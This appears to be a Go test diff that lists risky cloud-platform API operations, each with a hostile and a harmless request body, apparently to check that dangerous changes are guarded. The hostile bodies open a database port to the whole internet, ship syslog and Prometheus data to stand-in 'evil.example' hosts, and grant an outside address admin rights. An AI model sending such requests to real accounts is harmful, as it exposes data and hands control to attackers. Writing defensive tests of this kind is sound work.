@@ -31,6 +31,9 @@ func riskiest() []risky {
 	backups := func(n int) string {
 		return fmt.Sprintf(`{"backupPeriod":"0 3 * * *","retentionPolicy":{"maxTotalFiles":%d,"maxTotalGiB":%d,"protectedTags":[],"minDaily":%d,"maxDaily":%d,"minWeekly":%d,"maxWeekly":%d,"minMonthly":0,"maxMonthly":%d}}`, n, n, n/20, n, n/20, n, n)
 	}
+	port := func(policy, ranges string) string {
+		return `{"publicIpType":"IP_V6","publicPort":15432,"internalPort":5432,"internalProtocol":"tcp","firewallPolicy":"` + policy + `","firewallIpRanges":[` + ranges + `],"firewallAllowMyIp":false}`
+	}
 	return []risky{
 		{operation: "PostProjectServiceStackImport", on: ownProject, yaml: "yaml", tree: replacement},
 		{operation: "PutProjectFirstClassRecipeDevelopmentContainer", on: ownProject, yaml: "serviceImportYaml", tree: replacement},
@@ -44,8 +47,11 @@ func riskiest() []risky {
 			operation: "PutPublicHttpRouting", on: routing, body: `{"sslEnabled":true,"cdnEnabled":false,"domains":["evil.example.com"],"locations":[{"path":"/","port":3000,"serviceStackId":"%app"}]}`,
 			harmless: `{"sslEnabled":true,"cdnEnabled":false,"domains":[],"locations":[]}`,
 		},
+		{operation: "PostServiceStackPublicPortRouting", on: of("db"), body: port("BLACKLIST", ""), harmless: port("WHITELIST", `"10.0.0.1/32"`)},
 		{operation: "PutServiceStackBackupConfig", on: of("db"), body: backups(1), harmless: backups(100)},
+		{operation: "PutProjectPublicIpv4Shared", on: ownProject, body: `{"enabled":false}`, harmless: `{"enabled":true}`},
 		{operation: "PutProjectRemoteLogging", on: ownProject, body: `{"syslogConfig":"network(\"evil.example\")","certificate":""}`, harmless: `{"syslogConfig":"","certificate":""}`},
+		{operation: "PatchPrometheusConfig", on: ownProject, body: `{"configs":[{"targets":["evil.example:9090"],"labels":{}}]}`, harmless: `{"configs":[]}`},
 		{
 			operation: "PostClientUser", on: org, body: `{"email":"evil@example.com","firstName":"E","lastName":"V","languageId":"en","roleCode":"ADMIN","canViewFinances":true,"canEditFinances":false,"canCreateProjects":true}`,
 			harmless: `{"email":"evil@example.com","firstName":"E","lastName":"V","languageId":"en","roleCode":"GUEST","canViewFinances":false,"canEditFinances":false,"canCreateProjects":false}`,
